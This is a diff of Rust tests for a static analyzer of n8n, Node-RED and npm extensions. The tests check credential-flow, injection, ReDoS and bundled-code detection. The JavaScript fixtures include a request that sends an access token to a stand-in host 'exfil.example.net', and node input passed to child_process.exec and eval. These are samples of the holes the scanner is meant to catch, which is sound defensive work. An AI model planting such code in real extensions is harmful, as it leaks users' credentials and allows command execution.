@@ -392,3 +392,209 @@ fn analyzer_trait_wires_files_and_marks_tests() {
         assert!(!r.help.is_empty(), "{} has no help", r.id);
     }
 }
+
+fn credentials_observed(out: &Output) -> Vec<(String, Vec<String>, Vec<HostPattern>, u32)> {
+    out.observed
+        .iter()
+        .filter_map(|i| match &i.capability {
+            Capability::Credential {
+                name,
+                secret_fields,
+                bound_hosts,
+                ..
+            } => Some((
+                name.clone(),
+                secret_fields.clone(),
+                bound_hosts.clone(),
+                i.evidence.first().and_then(|e| e.line).unwrap_or(0),
+            )),
+            _ => None,
+        })
+        .collect()
+}
+
+#[test]
+fn credential_sent_to_a_known_host_is_an_observed_capability() {
+    let src = r#"
+export class Acme {
+  async execute() {
+    const creds = await this.getCredentials('acmeApi');
+    const base = this.getNodeParameter('baseUrl', 0);
+    await this.helpers.httpRequest({
+      url: 'https://api.acme.io/v1/me',
+      headers: { Authorization: `Bearer ${creds.apiKey}` },
+    });
+    await this.helpers.httpRequest({
+      baseURL: 'https://exfil.example.net',
+      url: '/collect',
+      body: { token: creds.accessToken },
+    });
+    await this.helpers.requestWithAuthentication.call(this, 'acmeApi', {
+      uri: 'https://auth.acme.io/oauth/token',
+    });
+    // A user-configured base URL: no host known, nothing recorded.
+    await this.helpers.httpRequest({ url: `${base}/x`, headers: { k: creds.apiKey } });
+    // No credential in the request.
+    await this.helpers.httpRequest({ url: 'https://status.acme.io/ping' });
+  }
+}
+"#;
+    let out = run("nodes/Acme.node.ts", src, Some(Platform::N8n));
+    let got = credentials_observed(&out);
+    assert_eq!(
+        got,
+        vec![
+            (
+                "acmeApi".to_string(),
+                vec![],
+                vec![HostPattern::Exact("auth.acme.io".into())],
+                15
+            ),
+            (
+                "acmeApi".to_string(),
+                vec!["accessToken".to_string()],
+                vec![HostPattern::Exact("exfil.example.net".into())],
+                10
+            ),
+            (
+                "acmeApi".to_string(),
+                vec!["apiKey".to_string()],
+                vec![HostPattern::Exact("api.acme.io".into())],
+                6
+            ),
+        ],
+        "{:#?}",
+        out.observed
+    );
+    assert!(
+        out.observed
+            .iter()
+            .all(|i| i.evidence.iter().all(|e| e.path == "nodes/Acme.node.ts")),
+    );
+}
+
+#[test]
+fn node_red_credentials_are_named_after_the_node_type() {
+    let src = r#"
+module.exports = function (RED) {
+  function Sensor(config) {
+    RED.nodes.createNode(this, config);
+    const node = this;
+    node.on('input', async function (msg) {
+      await fetch('https://api.sensor.io/v2/read', {
+        headers: { 'x-api-key': node.credentials.apiKey },
+      });
+    });
+  }
+  RED.nodes.registerType('acme-sensor', Sensor, { credentials: { apiKey: { type: 'password' } } });
+};
+"#;
+    let out = run("sensor.js", src, Some(Platform::NodeRed));
+    let got = credentials_observed(&out);
+    assert_eq!(got.len(), 1, "{:#?}", out.observed);
+    assert_eq!(got[0].0, "acme-sensor");
+    assert_eq!(got[0].1, vec!["apiKey".to_string()]);
+    assert_eq!(got[0].2, vec![HostPattern::Exact("api.sensor.io".into())]);
+}
+
+#[test]
+fn bundled_code_is_downranked_but_platform_taint_is_kept() {
+    let lib =
+        "export function f(p) { return eval(p); }\nexport function g() { process.exit(1); }\n";
+    // Library-mode flows inside a vendored dependency are informational.
+    for path in [
+        "node_modules/left-pad/index.js",
+        "resources/vendor/lib.js",
+        "dist/lib.min.js",
+    ] {
+        let out = run(path, lib, None);
+        let f = out
+            .findings
+            .iter()
+            .find(|f| f.rule_id == "js/code-injection")
+            .unwrap_or_else(|| panic!("{path}: {:?}", out.findings));
+        assert_eq!(f.severity, portcullis_core::Severity::Info, "{path}");
+        assert_eq!(f.confidence, portcullis_core::Confidence::Low, "{path}");
+        assert!(f.tags.iter().any(|t| t == "bundled"), "{path}");
+        assert!(f.message.contains("lowered to informational"), "{path}");
+    }
+    // A generated file with very long lines and a source map, shipped in an n8n package.
+    let long = format!(
+        "var a=1;{}\nclass N{{async execute(){{const x=this.getInputData();require('child_process').exec(x[0].json.cmd);process.exit(1)}}}}\n//# sourceMappingURL=N.js.map\n",
+        "a+=1;".repeat(600)
+    );
+    let out = run("dist/N.node.js", &long, Some(Platform::N8n));
+    let cmd = out
+        .findings
+        .iter()
+        .find(|f| f.rule_id == "js/command-injection")
+        .expect("platform taint kept");
+    assert_ne!(cmd.severity, portcullis_core::Severity::Info);
+    assert!(cmd.tags.iter().any(|t| t == "bundled"));
+    let exit = out
+        .findings
+        .iter()
+        .find(|f| f.rule_id == "js/process-control")
+        .expect("pattern reported");
+    assert_eq!(exit.severity, portcullis_core::Severity::Info);
+    // Ordinary compiled output (short lines, source map) is the extension's own code.
+    let tsc = "class N{async execute(){process.exit(1)}}\n//# sourceMappingURL=N.js.map\n";
+    let out = run("dist/nodes/N.node.js", tsc, Some(Platform::N8n));
+    let exit = out
+        .findings
+        .iter()
+        .find(|f| f.rule_id == "js/process-control")
+        .expect("own code");
+    assert_ne!(exit.severity, portcullis_core::Severity::Info);
+    assert!(!exit.tags.iter().any(|t| t == "bundled"));
+}
+
+#[test]
+fn command_line_entry_points_may_exit() {
+    let src = "#!/usr/bin/env node\nconst x = require('./n8n-node');\nprocess.exit(0);\n";
+    let out = run("bin/setup.js", src, Some(Platform::N8n));
+    assert!(rules_at(&out, "js/process-control").is_empty());
+    let out = run(
+        "nodes/X.node.js",
+        "class X { execute() { process.exit(0); } }\n",
+        Some(Platform::N8n),
+    );
+    assert_eq!(rules_at(&out, "js/process-control"), vec![1]);
+}
+
+#[test]
+fn regexes_through_objects_arrays_and_constant_joins() {
+    let src = r#"
+var QUERIES = [
+  { regexp: /^last\s+(\d+)\s+versions?$/i, select: 1 },
+  { regexp: /^\s*(>=?|<=?)\s*(\d*\.?\d+)%$/, select: 2 },
+];
+var reN = '\\s*([+-]?\\d*\\.?\\d+)\\s*';
+var reRgb = new RegExp('^rgb\\(' + [reN, reN, reN] + '\\)$');
+var ANSI = ['[\\u001B][[\\]()#;?]*(?:(?:[a-z\\d]*(?:;[a-z\\d]*)*)?\\u0007)', 'x'].join('|');
+export function query(selection) {
+  for (var i = 0; i < QUERIES.length; i++) {
+    var match = selection.match(QUERIES[i].regexp);
+    if (match) return match;
+  }
+}
+export function rgb(s) {
+  return reRgb.exec(s);
+}
+export function ansi() {
+  return new RegExp(ANSI, 'g');
+}
+"#;
+    let out = run("index.js", src, Some(Platform::Npm));
+    let lines = rules_at(&out, "js/redos");
+    // The use sites of the table's and the built regex, and the exported constant regex.
+    assert!(lines.contains(&11), "{lines:?} {:#?}", out.findings);
+    assert!(lines.contains(&16), "{lines:?}");
+    assert!(lines.contains(&19), "{lines:?}");
+    let exported = out
+        .findings
+        .iter()
+        .find(|f| f.rule_id == "js/redos" && f.location.start_line() == Some(19))
+        .unwrap();
+    assert!(exported.message.contains("exports it"));
+}
